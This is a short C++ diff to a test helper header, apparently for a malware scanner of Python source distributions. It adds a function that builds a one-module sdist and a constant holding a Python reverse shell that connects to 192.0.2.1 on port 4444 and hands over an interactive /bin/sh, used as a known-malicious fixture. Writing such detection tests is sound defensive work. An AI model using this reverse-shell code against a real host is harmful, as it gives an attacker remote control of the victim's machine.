@@ -34,6 +34,20 @@ inline Bytes sdist_of(const std::vector<File>& files) {
   return testing::gzipped(tar.finished());
 }
 
+// An sdist of one module.
+inline Bytes version_of(const std::string& name, const std::string& version, const std::string& text) {
+  testing::TarBuilder tar;
+  const std::string root = name + "-" + version + "/";
+  tar.add(root + "PKG-INFO", "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n");
+  tar.add(root + name + "/__init__.py", text);
+  return testing::gzipped(tar.finished());
+}
+
+// What makes a module malicious beyond doubt. It leads nowhere.
+inline constexpr std::string_view kShell =
+    "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\n"
+    "for d in (0, 1, 2):\n    os.dup2(s.fileno(), d)\nsubprocess.call(['/bin/sh', '-i'])\n";
+
 // Scans on a worker's stack: the main thread's is too small for what the interpreter's budget allows.
 inline ScanResult scan_files(const std::vector<File>& files, const ScanOptions& options = {}) {
   ScanResult result;
